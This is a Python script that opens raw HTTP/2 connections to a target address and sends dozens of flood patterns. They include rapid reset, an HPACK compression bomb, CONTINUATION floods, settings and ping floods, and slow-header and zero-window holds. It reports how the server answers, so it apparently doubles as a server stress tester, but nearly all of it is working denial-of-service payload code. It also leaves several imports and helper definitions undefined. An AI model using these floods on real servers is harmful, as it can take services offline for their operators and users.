"""Sends much work in few bytes, each kind on a connection of its own, until the server has had enough. Prints of each
how often it was sent, the code of the GOAWAY, and how many streams were reset for it: a line with its name.

With seconds behind the names: again and again for so long, on new connections, and prints how often. What is only held
open is held for so long."""
import time

# Fields without an entry for the table.
WAIT = b"\x86\x04\x05/wait\x01\x01a"
GET_WAIT, POST_WAIT = b"\x82" + WAIT, b"\x83" + WAIT


class Flood:
    def __init__(self, address, settings=b""):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.got, self.goaway, self.resets, self.pongs, self.is_open = b"", None, 0, 0, True
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            self.is_open = False

    def hear(self, wait=0):
        """Takes in what has come."""
        while self.is_open and select.select([self.socket], [], [], wait)[0]:
            try:
                data = self.socket.recv(1 << 20)
            except ConnectionResetError:
                data = b""
            self.is_open = bool(data)
            self.got += data
            while len(self.got) >= 9 and len(self.got) >= 9 + int.from_bytes(self.got[:3], "big"):
                end = 9 + int.from_bytes(self.got[:3], "big")
                kind, payload, self.got = self.got[3], self.got[9:end], self.got[end:]
                if kind == 7:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                elif kind == 3:
                    self.resets += 1
                elif kind == 6:
                    self.pongs += 1


def head(stream, flags=END_STREAM | END_HEADERS, block=GET_WAIT):
    return frame(1, flags, stream, block)


def opened(more):
    """A request with a body, and something on its stream."""
    return lambda n: head(2 * n + 1, END_HEADERS, POST_WAIT) + more(2 * n + 1)


def ended(more):
    """A whole request, and something on its stream."""
    return lambda n: head(2 * n + 1) + more(2 * n + 1)


def first(begin, more):
    return lambda n: (begin if n == 0 else b"") + more


# A name and a value that fill the table, and then one byte for each time they are meant.
BOMB = b"\x40\x01x\x7f\xe0\x1e" + b"y" * 4063

# One step of each, by its number.
FLOODS = {
    "rapid reset": ended(lambda s: frame(3, 0, s, b"\0\0\0\x08")),
    "rapid reset of uploads": opened(lambda s: frame(3, 0, s, b"\0\0\0\x08")),
    "made you reset by nothing for a window": opened(lambda s: frame(8, 0, s, b"\0\0\0\0")),
    "made you reset by too much for a window": opened(lambda s: frame(8, 0, s, b"\x7f\xff\xff\xff")),
    "made you reset by a short priority": opened(lambda s: frame(2, 0, s, b"\0\0\0\0")),
    "made you reset by a stream that depends on itself": opened(lambda s: frame(2, 0, s, struct.pack(">IB", s, 1))),
    "made you reset by data behind the end": ended(lambda s: frame(0, 0, s, b"x")),
    "made you reset by a head behind the end": ended(lambda s: head(s)),
    "made you reset by trailers that do not end": opened(lambda s: frame(1, END_HEADERS, s, b"\x00\x01x\x01y")),
    "made you reset by a wrong length": lambda n: frame(1, 5, 2 * n + 1, POST_WAIT + b"\x0f\x0d\x015"),
    "malformed heads": lambda n: frame(1, 5, 2 * n + 1, b"\x82"),
    "empty heads": lambda n: frame(1, 5, 2 * n + 1, b""),
    "streams too many": lambda n: head(2 * n + 1, END_HEADERS, POST_WAIT),
    "continuations of 16 KiB": first(frame(1, 1, 1, GET_WAIT), frame(9, 0, 1, b"\x00\x7f\x80\x80\x80\x01" + b"x" * 16378)),
    "continuations of many fields": first(frame(1, 1, 1, GET_WAIT), frame(9, 0, 1, b"\x00\x01x\x01y" * 3276)),
    "continuations of a byte": first(frame(1, 1, 1, GET_WAIT), frame(9, 0, 1, b"\x82")),
    "continuations of nothing": first(frame(1, 1, 1, GET_WAIT), frame(9, 0, 1)),
    "HPACK bomb": lambda n: frame(1, 5, 2 * n + 1, GET_WAIT + (BOMB if n == 0 else b"") + b"\xbe" * (12000 if n else 60)),
    "changes of the table": lambda n: frame(1, 5, 2 * n + 1, b"\x20\x3f\xe1\x1f" * 4000 + GET_WAIT),
    "settings": lambda n: frame(4, 0, 0, struct.pack(">HI", 4, 65535 - n % 2)),
    "settings of 16 KiB": lambda n: frame(4, 0, 0, struct.pack(">HI", 4, 65535 - n % 2) * 2730),
    "acknowledgements": lambda n: frame(4, ACK, 0),
    "pings": lambda n: frame(6, 0, 0, b"8 bytes."),
    "answers to no ping": lambda n: frame(6, ACK, 0, b"8 bytes."),
    "priorities": lambda n: frame(2, 0, 2 * n + 1, b"\0\0\0\0\x10"),
    "unknown frames": lambda n: frame(99, 0, 0, b"x"),
    "windows of a byte": lambda n: frame(8, 0, 0, b"\0\0\0\1"),
    "empty data": first(head(1, END_HEADERS, POST_WAIT), frame(0, 0, 1)),
    "padding": first(head(1, END_HEADERS, POST_WAIT), frame(0, PADDED, 1, b"\xff" + bytes(255))),
    "data of a byte": first(head(1, END_HEADERS, POST_WAIT), frame(0, 0, 1, b"x")),
    "data behind a reset": first(head(1, END_HEADERS, POST_WAIT) + frame(3, 0, 1, b"\0\0\0\x08"), frame(0, 0, 1, b"x" * 1024)),
    "promises": lambda n: frame(5, END_HEADERS, 1, b"\0\0\0\2" + GET_WAIT),
}



def large(stream, path=b"/large"):
    return head(stream, block=b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a")


# What is sent on so many connections that are then held open, and then a byte at a time.
HELD = {
    "streams without a window": (1, struct.pack(">HI", 4, 0), b"".join(large(s) for s in range(1, 257, 2)), b""),
    "replies that nobody reads": (1, struct.pack(">HI", 4, 2**31 - 1), frame(8, 0, 0, b"\x7f\0\0\0") +
                                  b"".join(large(s) for s in range(1, 257, 2)), b""),
    "uploads that are stuck": (4, b"", b"".join(head(s, END_HEADERS, POST_WAIT) + frame(0, 0, s, b"x" * 400)
                                                for s in range(1, 257, 2)), b""),
    "heads of 28 KiB in a few bytes": (4, b"", b"".join(frame(1, 5, s, GET_WAIT + (BOMB if s == 1 else b"\xbe" * 7))
                                                       for s in range(1, 257, 2)), b""),
    "slow heads": (200, b"", frame(1, 5, 1, bytes(16000))[:9], bytes(16000)),
    "windows of a byte for a large reply": (20, struct.pack(">HI", 4, 0), large(1), frame(8, 0, 1, b"\0\0\0\1") * 1000),
}


def hold(name, seconds):
    count, settings, begin, drip = HELD[name]
    floods, until = [Flood(sys.argv[1], settings) for _ in range(count)], time.monotonic() + seconds
    for flood in floods:
        flood.send(begin)
    at = 0
    step = 13 if len(drip) % 13 == 0 else 1
    while time.monotonic() < until:
        for flood in floods if at < len(drip) else []:
            if flood.is_open:
                flood.send(drip[at:at + step])
        at += step
        time.sleep(0.01)
    print(f"{name}: {count} {sum(flood.is_open for flood in floods)}", flush=True)


STEPS_MAX = 10_000
# So much of it is no flood yet.
FEW = {"changes of the table": 200, "data of a byte": 2000}


def run(name):
    step, steps = FLOODS[name], FEW.get(name, STEPS_MAX)
    flood = Flood(sys.argv[1])
    for sent in range(steps):
        flood.send(step(sent))
        if sent % 16 == 0:
            flood.hear()
        if not flood.is_open or flood.goaway:
            break
    else:
        sent = steps
    # What it says last, if anything.
    until = time.monotonic() + 2
    if name in FEW:
        flood.send(frame(6, 0, 0, b"is read?"))
    while flood.is_open and not flood.goaway and not (name in FEW and flood.pongs) and time.monotonic() < until:
        flood.hear(0.02)
    flood.socket.close()
    return sent, flood


if __name__ == "__main__":
    names = [word for word in sys.argv[2:] if word in FLOODS or word in HELD] or list(FLOODS)
    seconds = [float(word) for word in sys.argv[2:] if word not in names]
    until = time.monotonic() + sum(seconds)
    for name in names:
        if name in HELD:
            hold(name, sum(seconds))
            continue
        connections = steps = 0
        while True:
            sent, flood = run(name)
            connections, steps = connections + 1, steps + sent
            if time.monotonic() >= until:
                break
        if seconds:
            print(f"{name}: {connections} {steps}", flush=True)
        else:
            print(f"{name}: {sent} {flood.goaway} {flood.resets}", flush=True)
